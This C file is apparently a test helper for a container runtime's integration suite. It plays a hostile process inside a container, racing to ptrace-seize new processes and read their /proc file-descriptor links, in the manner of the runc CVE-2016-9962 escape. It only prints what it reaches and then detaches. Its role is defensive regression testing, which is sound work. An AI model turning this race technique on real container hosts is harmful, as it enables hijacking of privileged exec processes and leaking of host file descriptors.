/* A hostile process inside a container, for test/integration/exec-ptrace.test.ts: it polls /proc
 * for every new process and tries to take it over the way runc's CVE-2016-9962 allowed, with the
 * capabilities it has (the container's defaults, no CAP_SYS_PTRACE):
 *   - PTRACE_SEIZE (PTRACE_ATTACH's check), which succeeds on a dumpable process of the same uid whose capabilities are
 *     no more than ours; on success it prints `attach PID EXE` (EXE: /proc/PID/exe) and detaches;
 *   - /proc/PID/fd: the numbers are listed for any process of our uid, but reading a link (where
 *     the descriptor leads) takes the same access check as an attach; it prints `fd PID N TARGET`
 *     for every descriptor above 2 whose link it could read.
 * A process is tried again on every pass until one of the two shows something, so the short window
 * between a process's last capability drop and its execve is raced, not sampled once.
 * Usage: ptrace-race STOPFILE. Prints `ready` once it polls, and when STOPFILE exists
 * `done SEEN` (how many new processes it saw) and waits to be killed. Built static by the test
 * (cc -static). */
#define _GNU_SOURCE
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define PID_LIMIT (1 << 22) /* the kernel's largest pid_max */

static unsigned char seen[PID_LIMIT / 8], shown[PID_LIMIT / 8];

static int bit(unsigned char *set, int pid, int mark)
{
	int was = set[pid / 8] & (1 << (pid % 8));
	if (mark)
		set[pid / 8] |= (unsigned char)(1 << (pid % 8));
	return was != 0;
}

/* Returns how many descriptors above 2 it could follow (and printed). */
static int show_fds(int pid)
{
	int shown_here = 0;
	char dir[64], link[320], target[256];
	snprintf(dir, sizeof dir, "/proc/%d/fd", pid);
	DIR *d = opendir(dir);
	if (!d)
		return 0;
	struct dirent *e;
	while ((e = readdir(d))) {
		int fd = atoi(e->d_name);
		if (e->d_name[0] == '.' || fd <= 2)
			continue;
		snprintf(link, sizeof link, "%s/%s", dir, e->d_name);
		ssize_t n = readlink(link, target, sizeof target - 1);
		if (n <= 0)
			continue;
		target[n] = 0;
		printf("fd %d %d %s\n", pid, fd, target);
		shown_here++;
	}
	closedir(d);
	return shown_here;
}

/* Leaves a seized tracee as it was: stop it (PTRACE_INTERRUPT), hand back any signal that
 * arrived meanwhile, detach. */
static void release(int pid)
{
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	int st;
	while (waitpid(pid, &st, __WALL) == pid && WIFSTOPPED(st)) {
		if (st >> 16 == PTRACE_EVENT_STOP) {
			ptrace(PTRACE_DETACH, pid, 0, 0);
			return;
		}
		ptrace(PTRACE_CONT, pid, 0, WSTOPSIG(st));
	}
}

/* Returns 1 if it attached (PTRACE_SEIZE: the attach check, without a SIGSTOP). */
static int try_attach(int pid)
{
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0)
		return 0;
	char link[64], exe[256];
	snprintf(link, sizeof link, "/proc/%d/exe", pid);
	ssize_t n = readlink(link, exe, sizeof exe - 1);
	exe[n > 0 ? n : 0] = 0;
	printf("attach %d %s\n", pid, exe);
	show_fds(pid);
	release(pid);
	return 1;
}

int main(int argc, char **argv)
{
	if (argc != 2)
		return 2;
	setvbuf(stdout, NULL, _IOLBF, 0);
	int self = getpid();
	long news = 0;
	printf("ready\n");
	for (;;) {
		struct stat sb;
		if (stat(argv[1], &sb) == 0)
			break;
		DIR *d = opendir("/proc");
		if (!d)
			return 1;
		struct dirent *e;
		while ((e = readdir(d))) {
			int pid = atoi(e->d_name);
			if (pid <= 0 || pid >= PID_LIMIT || pid == self || bit(shown, pid, 0))
				continue;
			news += !bit(seen, pid, 1);
			if (try_attach(pid) || show_fds(pid))
				bit(shown, pid, 1);
		}
		closedir(d);
		/* reap whatever ends up as our child (we may be the container's PID 1) */
		while (waitpid(-1, NULL, WNOHANG | __WALL) > 0)
			;
	}
	printf("done %ld\n", news);
	/* stay: as the container's PID 1, exiting would kill the exec that created STOPFILE */
	for (;;)
		pause();
}
